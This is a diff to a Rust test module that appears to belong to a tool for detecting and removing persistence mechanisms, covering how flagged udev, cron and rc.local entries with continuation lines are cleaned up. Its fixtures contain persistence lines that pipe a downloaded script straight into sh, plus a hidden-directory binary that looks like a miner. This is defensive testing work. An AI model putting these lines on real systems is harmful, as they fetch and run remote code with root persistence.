@@ -1138,34 +1138,47 @@ mod tests {
     }
 
     #[test]
-    fn a_continued_line_is_removed_with_its_continuations_where_the_mechanism_joins_them() {
+    fn a_continued_entry_is_removed_whole_and_edited_in_place_only_after_review() {
         // udev joins `\` lines: the flagged rule's `RUN+=` line left alone would be a rule matching every
-        // event. cron joins nothing: the line after a cron line ending in `\` is another job.
-        let rules = b"ACTION==\"add\", SUBSYSTEM==\"net\", \\\n  RUN+=\"/bin/sh -c 'curl -fsSL http://127.66.21.2/u.sh | sh'\"\nKERNEL==\"sd[a-z]\", RUN+=\"/bin/sh -c 'echo none > /sys/block/%k/queue/scheduler'\"\n";
+        // event; the admin's rule sharing its first line is another entry (review of train 1, item 1).
+        // cron joins nothing. A shell line ending in `#\` (a comment) or `\ ` continues nowhere, and a
+        // blank line ends an entry (items 2, 10): the host's next line is never taken.
+        let rules = b"ACTION==\"add\", SUBSYSTEM==\"net\", \\\n  RUN+=\"/bin/sh -c 'curl -fsSL http://127.66.21.2/u.sh | sh'\"\nACTION==\"add\", SUBSYSTEM==\"net\", \\\n  RUN+=\"/usr/sbin/ethtool -K $name gro off\"\n";
         let tab =
             b"* * * * * root curl -s http://x/a.sh | sh \\\n0 2 * * * root /opt/app/rotate --now\n";
+        let rc = b"#!/bin/sh\nnohup \\\n  /opt/app/server &\nnohup \\\n  /tmp/.x/kdevtmpfsi &\ncurl -fsSL http://x/s|sh #\\\n/opt/app/worker &\n/tmp/.y/m \\\n\n/opt/app/cache &\nexit 0\n";
         let model = fixture::model(
             vec![
                 fixture::file(b"/etc/udev/rules.d/75-net.rules", Some(rules)),
                 fixture::file(b"/etc/cron.d/app", Some(tab)),
+                fixture::file(b"/etc/rc.local", Some(rc)),
             ],
             vec![],
         );
-        let findings = [&b"/etc/udev/rules.d/75-net.rules"[..], b"/etc/cron.d/app"]
-            .iter()
-            .map(|p| {
-                finding(&crate::detect::rules::PER_031, Severity::High)
-                    .subject(persistence_subject(&RawBytes::from(*p), 1))
-            })
-            .collect();
+        let flag = |p: &[u8], line: u32| {
+            finding(&crate::detect::rules::PER_031, Severity::High)
+                .subject(persistence_subject(&RawBytes::from(p), line))
+        };
+        let findings = vec![
+            flag(b"/etc/udev/rules.d/75-net.rules", 1),
+            flag(b"/etc/cron.d/app", 1),
+            flag(b"/etc/rc.local", 4),
+            flag(b"/etc/rc.local", 6),
+            flag(b"/etc/rc.local", 8),
+        ];
         let plan = plan_of(model, doc(findings));
-        let mut edited: Vec<(&[u8], Vec<u32>)> = plan
+        // (file, [(line, removed without review)]) of every line removal.
+        type Edits<'p> = Vec<(&'p [u8], Vec<(u32, bool)>)>;
+        let mut edited: Edits = plan
             .items
             .iter()
             .filter_map(|i| match &i.action {
                 Action::RemoveLines { file, lines, .. } => Some((
                     file.path.as_bytes(),
-                    lines.iter().map(|l| l.number).collect(),
+                    lines
+                        .iter()
+                        .map(|l| (l.number, l.gate == Gate::Apply))
+                        .collect(),
                 )),
                 _ => None,
             })
@@ -1174,8 +1187,15 @@ mod tests {
         assert_eq!(
             edited,
             vec![
-                (&b"/etc/cron.d/app"[..], vec![1]),
-                (&b"/etc/udev/rules.d/75-net.rules"[..], vec![1, 2]),
+                (&b"/etc/cron.d/app"[..], vec![(1, true)]),
+                (
+                    &b"/etc/rc.local"[..],
+                    vec![(4, false), (5, false), (6, true), (8, true)]
+                ),
+                (
+                    &b"/etc/udev/rules.d/75-net.rules"[..],
+                    vec![(1, false), (2, false)]
+                ),
             ],
             "{:?}",
             plan.items
